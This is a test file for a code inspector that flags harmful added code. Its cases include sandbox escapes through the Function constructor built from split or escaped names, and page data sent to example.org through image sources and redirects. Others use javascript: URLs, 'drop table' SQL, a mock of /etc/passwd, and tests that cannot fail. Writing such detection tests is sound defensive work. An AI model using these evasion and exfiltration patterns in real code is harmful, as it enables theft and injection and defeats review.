// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be inspected.
import assert from 'node:assert/strict';
import { clientTest, goodFiles, inspect, inspectAdded, screen, server, serverTest } from './small-project.ts';

type Cases = readonly (readonly [path: string, code: string, said: RegExp])[];

function refuses(cases: Cases): void {
  for (const [path, code, said] of cases) {
    it(code.length > 100 ? `${code.slice(0, 100)}…` : code, () => {
      const problems = inspectAdded(path, code);
      assert.ok(
        problems.some((problem) => said.test(problem.message) && problem.path === path),
        JSON.stringify(problems),
      );
    });
  }
}

function accepts(cases: readonly (readonly [path: string, code: string])[]): void {
  for (const [path, code] of cases) it(`but not ${code}`, () => assert.deepEqual(inspectAdded(path, code), []));
}

describe('Inspection of a slice that means harm', () => {
  describe('finds names that are put together:', () => {
    refuses([
      [server, "const k = 'con' + 'structor'; export const f = (() => {})[k]('return process')();", /"constructor"/],
      [server, "const k = ['con', 'structor'].join(''); export const f = (() => {})[k]('1');", /"constructor"/],
      [server, "export const f = (() => {})[`con${'structor'}`]('1');", /"constructor"/],
      [server, "const a = 'con', b = `${a}struc`; export const f = (() => {})[b + 'tor']('1');", /"constructor"/],
      [server, "const { ['con' + 'structor']: make } = () => {};", /"constructor"/],
      [server, "export const f = Reflect.get(() => {}, 'con'.concat('structor'));", /"constructor"/],
      [server, "export const f = (() => {}).\\u0063onstructor('1');", /"constructor"/],
      [server, "\\u0065val('1');", /"eval"/],
      [server, 'export const x = pro\\u0063ess.env;', /"process"/],
      [screen, "navigator['send' + 'Beacon']('/x');", /"sendBeacon"/],
      [screen, "document['wri' + 'te']('x');", /"document\.write"/],
      [screen, "const t = ['alert', '(1)'].join(''); setTimeout(t as never, 1);", /given text/],
      [screen, "const host = 'https:'; void request(`${host}//example.org`);", /address that begins/],
    ]);
    accepts([
      [server, "const part = 'con'; export const label = `${part}tact`;"],
      [server, "const rows: Record<string, number> = {}; const key = ['a', 'b'].join('-'); rows[key] = 1;"],
    ]);
    it('without taking long, however they are put together', () => {
      const names = Array.from({ length: 2000 }, (_, n) => `const a${n + 1} = a${n} + a${n};`).join('\n');
      const start = performance.now();
      inspectAdded(server, `const a0 = 'xxxxxxxx';\n${names}`);
      assert.ok(performance.now() - start < 4000);
    });
  });

  describe('finds ways around names:', () => {
    refuses([
      [server, 'Object.getOwnPropertyDescriptors(Object.getPrototypeOf(() => {}));', /"Object\.getOwn/],
      [server, 'export const f = new (class extends Object.getPrototypeOf(async () => {}) {})();', /"Object\.get/],
      [server, 'Object.assign(Object.getPrototypeOf({}), { isAdmin: true });', /"Object\.getPrototypeOf"/],
      [server, "Object.defineProperty({}, 'then', { value: 1 });", /"Object\.defineProperty"/],
      [server, "Object['getPrototype' + 'Of']({});", /"Object"/],
      [server, 'const { getPrototypeOf } = Object;', /"Object"/],
      [server, 'Error.prepareStackTrace = (_, frames) => frames[0].getThis();', /"prepareStackTrace"/],
      [screen, 'document.defaultView?.alert(1);', /"document\.defaultView"|"defaultView"/],
      [screen, 'export const go = (e: Event) => e.target.ownerDocument.defaultView;', /"defaultView"/],
      [screen, "export const go = (e: UIEvent) => e.view.eval('1');", /"eval"/],
      [screen, "export const go = (e: UIEvent) => e.view.fetch('https://example.org');", /"fetch"/],
      [screen, "const d = document; d.write('x');", /"document" may only be used/],
      [screen, 'const { cookie } = document;', /"document" may only be used/],
      [server, 'export const f = (c: Context) => c.env.incoming.socket;', /"env"/],
      [server, 'export const f = (db: Database) => db.$client;', /"\$client"/],
      [server, 'export const q = (name: string) => sql.raw(name);', /"raw"/],
      [server, "export const q = (name: string) => sql['raw'](`drop table ${name}`);", /"raw"/],
      [server, "import { sql as s } from 'drizzle-orm';", /by its own name/],
      [server, 'export const q = (name: string) => db.execute(`drop table ${name}`);', /"execute"/],
      [server, "import data from 'hono' with { type: 'json' };", /no attributes/],
      [server, "import { serveStatic } from 'hono/serve-static';", /may not import/],
      [server, "import { toSSG } from 'hono/ssg';", /may not import/],
      [server, "import { env } from 'hono/adapter';", /may not import/],
      [server, "import { jwk } from 'hono/jwk';", /may not import/],
      [server, "import { raw } from 'hono/html';", /may not import/],
      [server, "import { cors } from 'hono/cors';", /may not import/],
    ]);
    accepts([
      [server, 'export const sums = Object.entries({ a: 1 }).map(([name, value]) => name + value);'],
      [server, "export const order = sql.raw('desc');"],
      [server, "import { HTTPException } from 'hono/http-exception';\nexport const no = () => new HTTPException(404);"],
      [screen, 'export const title = () => document.title;'],
    ]);
  });

  describe('finds pages that send away what they show:', () => {
    refuses([
      [screen, "const props = { dangerouslySetInnerHTML: { __html: 'x' } };", /"dangerouslySetInnerHTML"/],
      [
        screen,
        "export const X = () => <p {...{ ['dangerously' + 'SetInnerHTML']: x }} />;",
        /"dangerouslySetInnerHTML"/,
      ],
      [screen, 'const Tag = \'script\'; export const X = () => <Tag src="/x.js" />;', /<script>/],
      [screen, "import { createElement } from 'react';\ncreateElement('ifr' + 'ame', { src: '/x' });", /<iframe>/],
      [screen, "import { createElement as h } from 'react';", /by its own name/],
      [screen, 'export const X = () => <link rel="stylesheet" href="https://example.org/x.css" />;', /<link>/],
      [screen, 'export const X = () => <meta httpEquiv="refresh" content="0;url=https://example.org" />;', /<meta>/],
      [screen, "const u = 'java' + 'script:alert(1)'; export const X = () => <a href={u}>x</a>;", /may not hold code/],
      [screen, "export const X = () => <a href={'java\\nscript:alert(1)'}>x</a>;", /may not hold code/],
      [screen, 'export const X = () => <img src={`https://example.org/?d=${document.title}`} />;', /"src"/],
      [screen, "const host = 'https://example.org/'; export const X = (d: string) => <img src={host + d} />;", /"src"/],
      [screen, 'export const X = () => <img src="//example.org/pixel.gif" />;', /"src"/],
      [screen, 'export const X = () => <img src="/\\\\example.org/pixel.gif" />;', /"src"/],
      [screen, 'export const X = () => <svg><image href="https://example.org/x" /></svg>;', /"href"/],
      [screen, 'export const X = () => <video poster="https://example.org/x" />;', /"poster"/],
      [screen, 'export const X = () => <form action="https://example.org" />;', /"action"/],
      [screen, 'export const X = () => <button formAction="https://example.org">x</button>;', /"formAction"/],
      [screen, 'export const X = () => <a href="/x" ping="/y">x</a>;', /"ping"/],
      [
        screen,
        'export const X = (d: string) => <p style={{ background: `url(https://example.org/${d})` }} />;',
        /Styles/,
      ],
      [screen, 'export const X = () => <style>{\'@import "https://example.org"\'}</style>;', /Styles/],
      [screen, "window.location.href = 'https://example.org/?' + document.title;", /Pages may not leave/],
      [screen, 'window.location.assign(`https://example.org/${document.title}`);', /Pages may not leave/],
      [screen, "location = 'https://example.org';", /Pages may not leave/],
      [screen, 'window.open(`https://example.org/${document.title}`);', /"open"/],
      [screen, "new Image().src = 'https://example.org';", /"Image"/],
      [screen, "const i = document.createElement('img'); i.src = 'https://example.org/?';", /"src"/],
      [screen, "const i = document.createElement('scr' + 'ipt');", /<script>/],
      [screen, "document.body.setAttribute('onclick', 'alert(1)');", /"setAttribute"/],
    ]);
    accepts([
      [screen, 'export const X = ({ url }: { url: string }) => <img src={url} alt="" />;'],
      [screen, 'export const X = () => <img src="/images/sample-1.svg" alt="" />;'],
      [
        screen,
        'export const X = ({ place }: { place: string }) => <a href={`https://maps.example.org/?q=${place}`}>Map</a>;',
      ],
      [screen, 'export const X = ({ phone }: { phone: string }) => <a href={`tel:${phone}`}>Call</a>;'],
      [screen, 'export const X = ({ share }: { share: number }) => <p style={{ width: `${share}%` }} />;'],
      [screen, 'export const X = ({ save }: { save: () => void }) => <form action={save} />;'],
      [screen, "export const help = () => window.open('https://example.org/help');"],
      [screen, 'export const download = (id: number) => window.location.assign(`/api/export/${id}`);'],
    ]);
  });

  describe('finds tests that reach further or cannot fail:', () => {
    refuses([
      [clientTest, "vi['mock']('node:fs');", /"importActual"|"vi"|only be given/],
      [clientTest, "vi['import' + 'Actual']('node:fs');", /"importActual"|"vi" may only/],
      [clientTest, 'const { mock } = vi;', /"vi" may only be used/],
      [clientTest, "vi.mock('../../../../../../etc/passwd');", /module of this project/],
      [serverTest, "import { vi as v } from 'vitest';", /Import from "vitest" by name/],
      [serverTest, "import * as v from 'vitest';", /Import from "vitest" by name/],
      [serverTest, "import { inject } from 'vitest';", /Import from "vitest" by name/],
      [clientTest, "const t = it; t.skip('x', () => {});", /"it" may only be used/],
      [clientTest, "it('x', { fails: true }, () => { expect(f()).toBe(1); });", /"fails" leaves tests out/],
      [clientTest, "it('x', () => { expect(f()).toMatchFileSnapshot('../../x'); });", /"toMatchFileSnapshot"/],
    ]);
    accepts([
      [clientTest, "it('x', () => { expect(/a/.test(String(f()))).toBe(true); });"],
      [clientTest, "it('x', { timeout: 5000 }, () => { document.dispatchEvent(new Event('x')); send(document); });"],
    ]);
  });

  it('finds text that is hidden from people', () => {
    const said = (code: string) => inspect({ [server]: `${goodFiles[server]}${code}\n` })[0]?.message ?? '';
    assert.match(said('// \u202e nothing'), /direction of text/);
    assert.match(said(`// nothing${' '.repeat(300)}export const x = 1;`), /far to the right/);
  });
});
